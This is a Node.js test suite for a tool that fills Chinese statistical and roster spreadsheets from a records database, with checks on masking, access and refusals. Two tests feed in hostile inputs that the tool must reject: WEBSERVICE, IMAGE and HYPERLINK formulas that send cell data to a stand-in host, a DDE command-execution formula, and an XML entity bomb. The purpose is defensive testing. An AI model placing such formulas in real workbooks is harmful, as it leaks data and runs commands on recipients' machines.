// Forms of other offices, each made another way, filled by `halfsky fill`: every shape, unit, mask and refusal. What was filled is read back
// with `halfsky sheet --csv`; whatever was not filled is there byte for byte.
import assert from 'node:assert/strict';
import { readFileSync, existsSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { Site, idNumber, uuid } from './support/site.mjs';
import { unzipped, workbook, xlsx, zipped } from './support/xlsx.mjs';

const year = new Date(Date.now() + 8 * 3600e3).getUTCFullYear();
const ids = { rain: idNumber('2014-03-11', 12), hill: idNumber('1985-05-05', 31), flower: idNumber('1990-01-01', 44) };
const phone = '13900001234';
const blank = (columns, rows, s) => Array.from({ length: rows }, () => Array(columns).fill(s ? { s } : ''));

describe('forms of other offices', () => {
  let site, made = 0, record;

  before(async () => {
    site = await new Site().init().serve();
    const good = async (login, body) => {
      const answer = await site.command(login, body);
      assert.equal(answer.status, 200, answer.text);
    };
    const [rain, hill, flower, h1, h2] = Array.from({ length: 5 }, () => uuid());
    record = hill;
    await good('village', { steps: [
      { type: 'core.person', move: 'enter', record: hill, values: { name: '王大山', sex: 'male', birth: '1985-05-05', id_number: ids.hill, phone, education: 'junior' } },
      { type: 'core.household', move: 'enter', record: h1, values: { head: hill, door: '口头庄 12 号院东屋', people: 3, kinds: ['hardship'] } },
      { type: 'core.person', move: 'enter', record: rain, values: { name: '李小雨', sex: 'female', birth: '2014-03-11', id_number: ids.rain, guardian: hill, household: h1 } },
    ] });
    await good('village2', { steps: [
      { type: 'core.person', move: 'enter', record: flower, values: { name: '张小花', sex: 'female', birth: '1990-01-01', id_number: ids.flower, education: 'college' } },
      { type: 'core.household', move: 'enter', record: h2, values: { head: flower, door: '河口 3 号', people: 4 } },
    ] });
    const donor = uuid(), gift = uuid();
    await good('county', { steps: [
      { type: 'core.donor', move: 'enter', record: donor, values: { name: '张女士', kind: 'person', contact: '13800001234' } },
      { type: 'spring_bud.gift', move: 'enter', record: gift, values: { donor, given: `${year}-01-05`, channel: 'bank', aim: 'girls', amount: '612300.50' } },
    ] });
    for (const [item, value] of [['population', 1000], ['migrants', 250]])
      await good('county', { type: 'core.census', move: 'enter', values: { as_at: `${year}-01-02`, item, value: { value, sureness: 'exact' }, source: '统计局' } });
    await good('cashier', { steps: [{ type: 'spring_bud.gift', move: 'receive', record: gift }] });
    await site.stop();
  });
  after(() => site?.end());

  // Fills a form and reads it back: { code, out, err, rows, sources, parts }.
  function fill(bytes, { org = '999001000000', as = 'county', period = String(year), more = [], name } = {}) {
    const form = join(site.folder, `form${++made}.xlsx`), filled = join(site.folder, name ?? `filled${made}.xlsx`);
    writeFileSync(form, bytes);
    const { code, stdout, stderr } = site.outcome('fill', form, '--data', site.data, '--org', org, '--period', period, ...(as ? ['--as', as] : []), '-o', filled, ...more);
    if (!existsSync(filled)) return { code, out: stdout, err: stderr, rows: null };
    const rows = site.run('sheet', filled, '--csv').trim().split('\r\n').map((line) => line.split(','));
    const sources = readFileSync(filled + '.sources.csv', 'utf8').replace('\ufeff', '').trim().split('\r\n').slice(1).map((line) => line.split(','));
    // Every other part is what it was.
    const before = unzipped(bytes), parts = unzipped(readFileSync(filled));
    assert.deepEqual(Object.keys(parts).sort(), Object.keys(before).sort());
    for (const part of Object.keys(before))
      if (part !== 'xl/worksheets/sheet1.xml') assert.ok(parts[part].packed.equals(before[part].packed), part);
    return { code, out: stdout, err: stderr, rows, sources, xml: parts['xl/worksheets/sheet1.xml'].content.toString() };
  }
  const refused = (bytes, code, more = {}) => {
    const { code: ended, err, rows } = fill(bytes, more);
    assert.equal(ended, 1, err);
    assert.match(err, new RegExp(`: ${code}: .{8}`));
    assert.equal(rows, null, 'nothing is written');
  };
  const mapping = (content) => {
    const file = join(site.folder, `map${made}-${Math.random()}.json`);
    writeFileSync(file, JSON.stringify(content));
    return ['--map', file];
  };
  const column = (rows, n, from = 1) => rows.slice(from).map((row) => row[n] ?? '');

  test('the form itself stays as it came, also where it is named as what is written', () => {
    const form = join(site.folder, 'own.xlsx'), bytes = xlsx([['村名', '户数'], ['', '']]);
    writeFileSync(form, bytes);
    const said = site.outcome('fill', form, '--data', site.data, '--org', '999001000000', '--period', String(year), '-o', form);
    assert.equal(said.code, 2);
    assert.match(said.stderr, /names the form itself/);
    assert.ok(readFileSync(form).equals(bytes));
  });

  // ---- a line for each place ----

  test('1: villages given, figures asked; a source for each cell', () => {
    const { code, rows, out, sources } = fill(workbook({ rows: [['村', '家庭户', '登记人员'], ['口头庄村', '', ''], ['西偏坨村', '', ''], ['河口村', '', '']] }));
    assert.equal(code, 0);
    assert.deepEqual(rows, [['村', '家庭户', '登记人员'], ['口头庄村', '1', '2'], ['西偏坨村', '0', '0'], ['河口村', '1', '1']]);
    assert.match(out, new RegExp(`B2 ← core.households, 口头庄村, ${year}-01-01..${year}-12-31`));
    assert.deepEqual(sources.find(([cell]) => cell === 'C4').slice(2, 6), ['core.people', '河口村', `${year}-01-01`, `${year}-12-31`]);
    assert.equal(sources.length, 6);
  });

  test('2: places blank: they are put in at the heading’s level, in the form’s lines', () => {
    const { rows } = fill(workbook({ rows: [['序号', '乡镇（街道）', '户数(户)'], ...blank(3, 4)] }));
    assert.deepEqual(rows.slice(0, 3), [['序号', '乡镇（街道）', '户数(户)'], ['1', '东山镇', '1'], ['2', '西河镇', '1']]);
    assert.deepEqual(column(rows, 1, 3).filter(Boolean), []);
  });

  test('3: headings in two rows, merged; codes below a figure; a total below', () => {
    const { code, rows } = fill(workbook({ rows: [['单位', '家庭户', '登记人员', '', ''], ['', '', '合计', '女', '男'], ['口头庄', '', '', '', ''], ['西偏坨', '', '', '', ''], ['河口', '', '', '', ''], ['合 计', '', '', '', '']], merges: ['A1:A2', 'B1:B2', 'C1:E1'] }));
    assert.equal(code, 0);
    assert.deepEqual(rows.slice(2), [['口头庄', '1', '2', '1', '1'], ['西偏坨', '0', '0', '0', '0'], ['河口', '1', '1', '1', '0'], ['合 计', '2', '3', '2', '1']]);
  });

  test('4: a part after its whole: 其中', () => {
    const { rows } = fill(workbook({ rows: [['村名', '登记人员数', '其中：女性'], ['口头庄村', '', ''], ['河口村', '', '']] }));
    assert.deepEqual(rows.slice(1), [['口头庄村', '2', '1'], ['河口村', '1', '1']]);
  });

  test('5: money in ten thousands, to the fen; by the heading, and by what the form says above', () => {
    const inHeading = fill(workbook({ rows: [['单位', '累计筹资（万元）', '专户余额'], ['花溪市', '', '']] }));
    assert.deepEqual(inHeading.rows[1], ['花溪市', '61.23005', '612300.5']);
    const above = fill(workbook({ rows: [['筹资情况统计表', '', ''], ['单位：万元、人', '', ''], ['地区', '累计筹资', '登记人员'], ['花溪市', '', '']], merges: ['A1:C1'] }));
    assert.deepEqual(above.rows[3], ['花溪市', '61.23005', '3']);
  });

  test('6: a unit that is another one: the cell stays empty, both are named', () => {
    const { code, rows, err } = fill(workbook({ rows: [['村', '家庭户（人）', '登记人员（人）'], ['口头庄村', '', '']] }));
    assert.equal(code, 1);
    assert.deepEqual(rows[1], ['口头庄村', '', '2']);
    assert.match(err, /B2 stays empty: .*人.*户/);
  });

  test('7: a heading that means two things: both are named, the cell stays empty', () => {
    const { code, rows, err } = fill(workbook({ rows: [['村', '家庭户', '走访'], ['口头庄村', '', '']] }));
    assert.equal(code, 1);
    assert.deepEqual(rows[1], ['口头庄村', '1', '']);
    assert.match(err, /C2 stays empty: 走访: means several things: [a-z_]+\.\w+（走访）、[a-z_]+\.\w+（走访）/);
  });

  test('8: an unknown heading, an unknown place, a township named twice over', () => {
    const { code, rows, err } = fill(workbook({ rows: [['乡镇', '村', '家庭户', '民族村'], ['东山镇', '口头庄村', '', ''], ['', '西偏坨村', '', ''], ['西河镇', '口头庄村', '', ''], ['西河镇', '没有的村', '', '']], merges: ['A2:A3'] }));
    assert.equal(code, 1);
    assert.deepEqual(column(rows, 2), ['1', '0', '', '']);
    assert.match(err, /D2:D5 stays empty: 民族村: not known/);
    assert.match(err, /C4:C5 stays empty: “西河镇”: no place here is called so/);
  });

  test('9: the lines are not all of it: no total; part sums are left', () => {
    const { rows, err } = fill(workbook({ rows: [['村', '家庭户'], ['口头庄村', ''], ['小计', ''], ['合计', '']] }));
    assert.deepEqual(column(rows, 1), ['1', '', '']);
    assert.match(err, /B4 stays empty: The lines are not all/);
    assert.match(err, /B3 stays empty: Part sums/);
  });

  test('10: formulas stay, and are worked out when it is opened; percentages as the cell shows them', () => {
    const { rows, xml } = fill(workbook({ styles: ['General', '0.0%', '@', '#,##0'], rows: [['村', '家庭户', '大专以上占比', '登记人员'], ['口头庄村', { s: 3 }, { s: 1 }, { s: 2 }], ['河口村', { s: 3 }, { s: 1 }, { s: 2 }], ['合计', { f: 'SUM(B2:B3)', v: 0 }, { s: 1 }, { s: 2 }]] }));
    assert.equal(rows[3][1], '0');
    assert.match(xml, /<f>SUM\(B2:B3\)<\/f><v>0<\/v>/);
    assert.match(xml, /<\/sheetData><sheetCalcPr fullCalcOnLoad="1"\/>/);
    const share = fill(workbook({ styles: ['General', '0.0%'], rows: [['单位', '外来人口占比', '外来人口占比（%）', '外来人口占比（‰）'], ['花溪市', { s: 1 }, '', '']] }));
    assert.deepEqual(share.rows[1], ['花溪市', '0.25', '25', '250']);
    assert.match(xml, /<c r="B2" s="3"><v>1<\/v>/);
    assert.match(xml, /<c r="D2" s="2" t="inlineStr"><is><t xml:space="preserve">2</, 'a text cell has text');
  });

  test('11: a cell formatted as a date, or as a percentage, takes no count', () => {
    const { rows, err } = fill(workbook({ styles: ['General', 'yyyy-mm-dd', '0%'], rows: [['村', '家庭户', '登记人员'], ['口头庄村', { s: 1 }, { s: 2 }]] }));
    assert.deepEqual(rows[1].filter(Boolean), ['口头庄村']);
    assert.match(err, /B2 stays empty: .*date/);
    assert.match(err, /C2 stays empty: .*percentage/);
  });

  test('12: another year over the columns is not filled, this one is', () => {
    const { rows, err } = fill(workbook({ rows: [['村', `${year - 1}年`, `${year}年`], ['', '家庭户', '家庭户'], ['口头庄村', '', '']], merges: ['A1:A2'] }));
    assert.deepEqual(rows[2], ['口头庄村', '', '1']);
    assert.match(err, new RegExp(`B3 stays empty: .*${year - 1}年`));
  });

  // ---- a line for each record ----

  const list = (headings, more = {}) => workbook({ rows: [['人员名册', ...Array(headings.length - 1).fill('')], headings, ...blank(headings.length, 5)], merges: [`A1:${String.fromCharCode(64 + headings.length)}1`], ...more });
  const village = { org: '999001100200', as: 'village' };

  test('13: people, with words for headings; private fields want a reason, and show their middle to nobody', () => {
    const headings = ['序号', '姓名', '性别', '身份证号码', '联系电话', '出生年月', '受教育程度', '所在村'];
    const none = fill(list(headings), village);
    assert.equal(none.code, 1);
    assert.match(none.err, /D3:D4 stays empty: .*--reason/);
    const { code, rows, out, sources } = fill(list(headings), { ...village, more: ['--reason', '民政局要名册'] });
    assert.match(out, /a line for each record, core\.person/);
    const by = (name) => rows.find((row) => row[1] === name);
    assert.deepEqual(by('王大山').slice(2), ['男', ids.hill.slice(0, 6) + '********' + ids.hill.slice(-4), '139****1234', '1985-05', '初中', '口头庄村']);
    assert.equal(by('李小雨')[3].slice(6, 14), '********');
    assert.deepEqual([rows[2][0], rows[3][0]], ['1', '2']);
    assert.equal(code, 1, 'she has no phone');
    assert.ok(sources.some(([cell, heading, source, , , , record]) => cell === 'D3' && heading === '身份证号码' && source === 'core.person.id_number' && record.length === 36));
    assert.ok(!JSON.stringify(sources).includes('王大山'), 'sources name no one');
  });

  test('14: masks as the heading asks: last four, the middle, whole; each look is in the journal', () => {
    const before = Number(site.sql("select count(*) from look where how = 'reveal'")[0][0]);
    const { rows } = fill(list(['姓名', '身份证号（后四位）', '身份证（完整）', '电话（隐去中间）', '身份证件号码末四位']), { ...village, more: ['--reason', '核对'] });
    const hill = rows.find((row) => row[0] === '王大山');
    assert.deepEqual(hill.slice(1), [ids.hill.slice(-4), ids.hill, '139****1234', ids.hill.slice(-4)]);
    assert.ok(Number(site.sql("select count(*) from look where how = 'reveal'")[0][0]) >= before + 3);
  });

  test('15: who may not read people gets none; without an account no list at all', () => {
    refused(list(['姓名', '性别', '出生日期']), 'form_needs_account', { ...village, as: null });
    refused(list(['姓名', '性别', '出生日期']), 'not_yours', { org: '999001101200', as: 'village' });
    refused(list(['姓名', '性别', '出生日期']), 'not_yours', { as: 'sysadmin' });
  });

  test('16: dates as the cell’s format wants, also of 1904; ids stay text', () => {
    const rows = [['姓名', '出生日期', '性别'], ...Array.from({ length: 3 }, () => ['', { s: 1 }, ''])];
    const { xml, rows: read } = fill(workbook({ styles: ['General', 'yyyy"年"m"月"d"日"'], rows }), village);
    assert.match(xml, /<c r="B[23]" s="1"><v>31172<\/v><\/c>/);   // 1985-05-05
    assert.ok(read.some((row) => row[0] === '王大山' && row[1] === '1985-05-05'));
    const old = fill(workbook({ properties: '<workbookPr date1904="1"/>', styles: ['General', 'yyyy-mm-dd'], rows }), village);
    assert.match(old.xml, /<v>29710<\/v>/);
    assert.ok(old.rows.some((row) => row[0] === '王大山' && row[1] === '1985-05-05'));
  });

  test('17: fewer lines than people and something below: refused, nothing is written', () => {
    refused(workbook({ rows: [['姓名', '性别', '出生日期'], ['', '', ''], ['填表人：', '', '']] }), 'form_rows_short', village);
  });

  test('18: no lines at all: they are added below, in the last one’s style', () => {
    const { rows, xml } = fill(workbook({ dimension: 'A1:C2', styles: ['General', '@'], rows: [['姓名', '性别', '出生日期'], [{ s: 1 }, { s: 1 }, { s: 1 }]] }), village);
    assert.equal(rows.length, 3);
    assert.match(xml, /<row r="3"><c r="A3" s="1"/);
    assert.match(xml, /<dimension ref="A1:C3"\/>/);
  });

  test('19: names given, the rest asked: each line gets the one that agrees', () => {
    const { rows, err } = fill(workbook({ rows: [['姓名', '性别', '出生日期', '文化程度'], ['王大山', '', '', ''], ['赵不在', '', '', ''], ['李小雨', '', '', '']] }), village);
    assert.deepEqual(rows[1], ['王大山', '男', '1985-05-05', '初中']);
    assert.deepEqual(rows[2].filter(Boolean), ['赵不在']);
    assert.deepEqual(rows[3].slice(0, 3), ['李小雨', '女', '2014-03-11']);
    assert.match(err, /No record fits this line/);
  });

  test('20: a group over headings: 监护人/姓名 is her guardian’s; an unknown group’s name is not hers', () => {
    const { rows, err, out } = fill(workbook({ rows: [['本人', '', '', '监护人', '', '母亲', ''], ['姓名', '性别', '出生日期', '姓名', '性别', '姓名', '性别'], ...blank(7, 3)], merges: ['A1:C1', 'D1:E1', 'F1:G1'] }), village);
    const rain = rows.find((row) => row[0] === '李小雨');
    assert.deepEqual(rain.slice(3, 5), ['王大山', '男']);
    assert.deepEqual(rain.slice(5).filter(Boolean), []);
    assert.match(out, /监护人\/姓名  → core\.person\.guardian\.name/);
    assert.match(err, /母亲\/姓名: not known/);
  });

  test('21: households: which list it is follows from its headings; a total of people', () => {
    const { rows, out } = fill(workbook({ rows: [['户主', '门牌', '家庭人口', '家庭类型'], ...blank(4, 4), ['合计', '', '', '']] }), { as: 'county', more: ['--reason', '统计'] });
    assert.match(out, /core\.household/);
    assert.deepEqual(column(rows, 2).filter(Boolean).sort(), ['3', '4', '7']);
    assert.equal(rows[5][2], '7');
    assert.ok(rows.some((row) => row[0] === '王大山' && row[3] === '困难'));
    assert.ok(rows.some((row) => row[1].includes('*')));
  });

  test('22: headings in pinyin, by id and in English', () => {
    const { rows, out } = fill(workbook({ rows: [['xingming', 'birth', 'Sex', 'education'], ...blank(4, 3)] }), village);
    assert.ok(rows.some((row) => row[0] === '王大山' && row[1] === '1985-05-05' && row[2] === '男' && row[3] === '初中'), JSON.stringify(rows));
    assert.match(out, /xingming {2}→ core\.person\.name \(pinyin\)/);
  });

  // ---- single cells ----

  test('23: labels to the left, values beside or behind a unit; labels over a line', () => {
    const left = fill(workbook({ rows: [['基本情况表', '', '', ''], ['填报单位', '', '家庭户', ''], ['登记人员', '人', '', ''], ['累计筹资', '万元', '', '']], merges: ['A1:D1'] }));
    assert.deepEqual(left.rows.slice(1), [['填报单位', '花溪市', '家庭户', '2'], ['登记人员', '人', '3', ''], ['累计筹资', '万元', '61.23005', '']]);
    const above = fill(workbook({ rows: [['家庭户', '登记人员', '累计筹资（元）'], ['', '', '']] }));
    assert.deepEqual(above.rows[1], ['2', '3', '612300.5']);
  });

  test('24: figures down, places or years across', () => {
    const { rows, err } = fill(workbook({ rows: [['指标', '东山镇', '西河镇', `${year - 1}年`, `${year}年`, '备注'], ['家庭户', '', '', '', '', ''], ['登记人员', '', '', '', '', '']] }));
    assert.deepEqual(rows.slice(1), [['家庭户', '1', '1', '', '2', ''], ['登记人员', '2', '1', '', '3', '']]);
    assert.match(err, /D2 stays empty/);
  });

  test('25: one person’s form: cells beside labels, from the record that is named', () => {
    const form = workbook({ rows: [['个人登记表', '', '', ''], ['姓名', '', '性别', ''], ['出生日期', '', '文化程度', ''], ['身份证号', '', '民族', '']], merges: ['A1:D1'] });
    const { rows } = fill(form, { ...village, more: ['--record', 'core.person/' + record, '--reason', '建档'] });
    assert.deepEqual(rows.slice(1, 3), [['姓名', '王大山', '性别', '男'], ['出生日期', '1985-05-05', '文化程度', '初中']]);
    assert.equal(rows[3][1].slice(6, 14), '********');
    assert.equal(rows[3][3], '');
    assert.match(fill(form, village).err, /--record TYPE\/ID/);
    refused(form, 'no_such_record', { org: '999001101200', as: 'village2', more: ['--record', 'core.person/' + record] });
  });

  // ---- what may not be written ----

  test('26: hidden columns and rows, locked cells, filled cells, covered cells and arrays are left alone', () => {
    const hidden = fill(workbook({ cols: '<col min="2" max="2" hidden="1"/>', rows: [['村', '家庭户', '登记人员'], ['口头庄村', '', ''], ['河口村', '', '']], hiddenRows: [3] }));
    assert.deepEqual(hidden.rows.slice(1), [['口头庄村', '', '2'], ['河口村', '', '']]);
    assert.match(hidden.err, /B2 stays empty: The cell is hidden/);
    const locked = fill(workbook({ protect: true, styles: ['General', '0'], unlocked: [1], rows: [['村', '家庭户', '登记人员'], ['口头庄村', { s: 1 }, '']] }));
    assert.deepEqual(locked.rows[1], ['口头庄村', '1', '']);
    assert.match(locked.err, /C2 stays empty: The cell is locked/);
    const given = fill(workbook({ rows: [['村', '家庭户', '登记人员', ''], ['口头庄村', 9, { f: '1+1', array: 'C2:C3' }, ''], ['河口村', '', '', '']] }));
    assert.deepEqual(column(given.rows, 1), ['9', '1']);
    assert.deepEqual(column(given.rows, 2), ['', '']);
  });

  test('27: a cell that takes one of a list', () => {
    const { rows, err } = fill(workbook({ choices: [['B2:B9', '女,男'], ['C2:C9', '本科,硕士']], rows: [['姓名', '性别', '文化程度'], ...blank(3, 3)] }), village);
    assert.ok(rows.some((row) => row[0] === '王大山' && row[1] === '男' && row[2] === ''));
    assert.match(err, /takes only: 本科、硕士/);
  });

  test('28: other sheets, comments, prints, links and names are there byte for byte; parts with prefixes and shared strings are read', () => {
    const options = { rows: [['村', '家庭户'], ['口头庄村', ''], null, ['河口村', '']], shared: true, prefix: 'x:', links: true, sheets: [['说明', '<worksheet><sheetData><row><c><v>1</v></c></row></sheetData></worksheet>']], names: '<definedNames><definedName name="_xlnm.Print_Area">表!$A$1:$B$9</definedName></definedNames>',
      extra: [['xl/comments1.xml', '<comments/>'], ['xl/printerSettings/printerSettings1.bin', Buffer.from([0, 1, 2, 255])], ['docProps/app.xml', '<a/>']], tail: '<x:pageSetup orientation="landscape"/>' };
    const { rows, xml, out } = fill(workbook(options));
    assert.deepEqual([rows[1], rows[3]], [['口头庄村', '1'], ['河口村', '1']]);
    // Without the two cells the sheet itself is what it was.
    const before = unzipped(workbook(options))['xl/worksheets/sheet1.xml'].content.toString();
    assert.equal(xml.replaceAll(/<x:c r="(B[24])"><x:v>1<\/x:v><\/x:c>/g, '<x:c r="$1"/>'), before);
    assert.match(out, /links to other workbooks are left/);
  });

  // ---- refusals ----

  test('29: macros, signatures, connections, formulas that call out', () => {
    const rows = [['村', '家庭户'], ['口头庄村', '']];
    refused(workbook({ rows, extra: [['xl/vbaProject.bin', 'x']] }), 'form_macros');
    refused(workbook({ rows, types: '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>' }), 'form_macros');
    refused(workbook({ rows, extra: [['_xmlsignatures/sig1.xml', '<s/>']] }), 'form_signed');
    for (const part of ['xl/connections.xml', 'xl/webextensions/webextension1.xml']) refused(workbook({ rows, extra: [[part, '<c/>']] }), 'form_connections');
    for (const f of ['WEBSERVICE("http://x.example/?"&B2)', '_xlfn.IMAGE("http://x.example/"&B2)', 'HYPERLINK("http://x.example/"&B2,"看")', "cmd|'/c calc'!A0", 'IF(1,webservice ("a"))'])
      refused(workbook({ rows: [...rows, [{ f }, '']] }), 'form_calls_out');
    refused(workbook({ rows, sheets: [['二', '<worksheet><sheetData><row><c><f>WEBSERVICE("http://x.example/")</f></c></row></sheetData></worksheet>']] }), 'form_calls_out');
    refused(workbook({ rows, names: '<definedNames><definedName name="a">WEBSERVICE("http://x.example/")</definedName></definedNames>' }), 'form_calls_out');
    assert.equal(fill(workbook({ rows: [...rows, ['合计', { f: 'SUM(B2:B2)&"WEBSERVICE("' }]] })).rows[1][1], '1', 'a word in quotes calls nobody');
  });

  test('30: no workbook, an old one, one with a password, a bomb, entities, ten thousand sheets, parts twice, another encoding', () => {
    const rows = [['村', '家庭户'], ['口头庄村', '']];
    const ole = Buffer.from('d0cf11e0a1b11ae1', 'hex');
    refused(Buffer.from('姓名,性别\n'), 'sheet_not_xlsx');
    refused(Buffer.concat([ole, Buffer.alloc(2000)]), 'sheet_old_format');
    refused(Buffer.concat([ole, Buffer.alloc(600), Buffer.from('EncryptedPackage', 'utf16le'), Buffer.alloc(600)]), 'sheet_encrypted');
    const parts = Object.entries(unzipped(workbook({ rows }))).map(([name, { content }]) => [name, content]);
    const with_ = (name, content) => zipped(parts.map((part) => (part[0] === name ? [name, content] : part)));
    refused(with_('xl/worksheets/sheet1.xml', '<!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><worksheet><sheetData/></worksheet>'), 'sheet_doctype');
    refused(with_('xl/worksheets/sheet1.xml', '<worksheet><sheetData><row r="1">' + '<c r="A1"/>'.repeat(2) + '</row></sheetData></worksheet>'), 'sheet_broken');
    refused(with_('xl/worksheets/sheet1.xml', '<worksheet><sheetData>' + Array.from({ length: 20_001 }, (_, n) => `<row r="${n + 1}"/>`).join('') + '</sheetData></worksheet>'), 'sheet_large');
    refused(with_('xl/worksheets/sheet1.xml', '<?xml version="1.0" encoding="ISO-8859-1"?><worksheet><sheetData/></worksheet>'), 'form_encoding');
    refused(zipped([...parts, parts.at(-1)]), 'sheet_broken');
    refused(workbook({ rows, sheets: Array.from({ length: 10_000 }, (_, n) => [`表${n}`, '<worksheet/>']) }), 'form_many_sheets');
    refused(workbook({ rows: [['无关', '内容'], ['', '']] }), 'form_no_headings');
    refused(workbook({ rows }), 'form_no_sheet', { more: ['--sheet', '没有'] });
  });

  // ---- what is remembered ----

  test('31: words that no pack has, said once: the next month fills without asking; another month’s column does not', () => {
    const form = (month) => workbook({ rows: [[`${month}月报表`, '', ''], ['村', '户（家）', `在册（${month}月）`], ['口头庄村', '', '']], merges: ['A1:C1'] });
    const first = fill(form(1), { period: `${year}-01` });
    assert.equal(first.rows, null);
    assert.match(first.err, /form_no_headings/);
    const wrong = fill(form(1), { period: `${year}-01`, more: mapping({ headings: { '户（家）': 'core.nothing' } }) });
    assert.match(wrong.err, /form_no_such: 户\(家\): there is no “core\.nothing”/);
    const said = fill(form(1), { period: `${year}-01`, more: mapping({ headings: { '户（家）': null, '在册（1月）': "core.people['female']" } }) });
    assert.deepEqual(said.rows[2], ['口头庄村', '', '0']);
    const next = fill(form(2), { period: `${year}-02` });
    assert.match(next.out, /, known: /);
    assert.deepEqual(next.rows[2], ['口头庄村', '', '0']);
    assert.match(fill(form(3), { period: `${year}-02` }).err, /C3 stays empty: .*3月/);
  });

  test('32: corrected by a mapping, filled without asking from then on, changed again; --dry-run says what it would do', () => {
    const form = workbook({ rows: [['村', '家庭户', '走访', '女同志'], ['口头庄村', '', '', '']] });
    const said = fill(form, { more: mapping({ headings: { 走访: null, 女同志: "core.people['female']" } }) });
    assert.deepEqual(said.rows[1], ['口头庄村', '1', '', '1']);
    const again = fill(form);
    assert.match(again.out, /, known: /);
    assert.deepEqual(again.rows[1], ['口头庄村', '1', '', '1']);
    fill(form, { more: mapping({ headings: { 女同志: "core.people['male']" } }) });
    const changed = fill(form);
    assert.deepEqual([changed.rows[1], /left out/.test(changed.err)], [['口头庄村', '1', '', '1'], true]);
    assert.match(changed.out, /女同志 {2}→ core\.people\['male'\] \(said, 人\)/);
    const dry = site.outcome('fill', join(site.folder, `form${made}.xlsx`), '--data', site.data, '--org', '999001000000', '--period', '2026', '--dry-run');
    assert.match(dry.stdout, /家庭户 {2}→ core\.households \(title, 户\)/);
    assert.match(site.run('verify', '--data', site.data), /nothing changed/);
    site.sql("update form_mapping set mapping = replace(mapping, 'male', 'female')");
    const found = site.outcome('verify', '--data', site.data);
    assert.equal(found.code, 1);
    assert.match(found.stdout, /form_mapping/);
  });

  test('33: a mapping may choose the type, who is listed, and how much of a private value is shown', () => {
    const { rows, out } = fill(list(['姓名', '证件', '性别']), { ...village, more: ['--reason', '核对', ...mapping({ type: 'core.person', where: "sex == 'female'", headings: { 证件: { is: 'id_number', mask: 'last4' } } })] });
    assert.match(out, /证件 {2}→ core\.person\.id_number \(said, last4\)/);
    assert.deepEqual(rows.slice(2).filter((row) => row[0]), [['李小雨', ids.rain.slice(-4), '女']]);
    refused(list(['姓名', '出生日期', '性别']), 'form_no_type', { ...village, more: mapping({ type: 'core.nothing' }) });
  });

  test('34: without an account figures that a text may have; texts that look like formulas stay texts', () => {
    const { rows, code } = fill(workbook({ rows: [['村', '家庭户'], ['口头庄村', '']] }), { as: null });
    assert.deepEqual([code, rows[1]], [0, ['口头庄村', '1']]);
  });
});
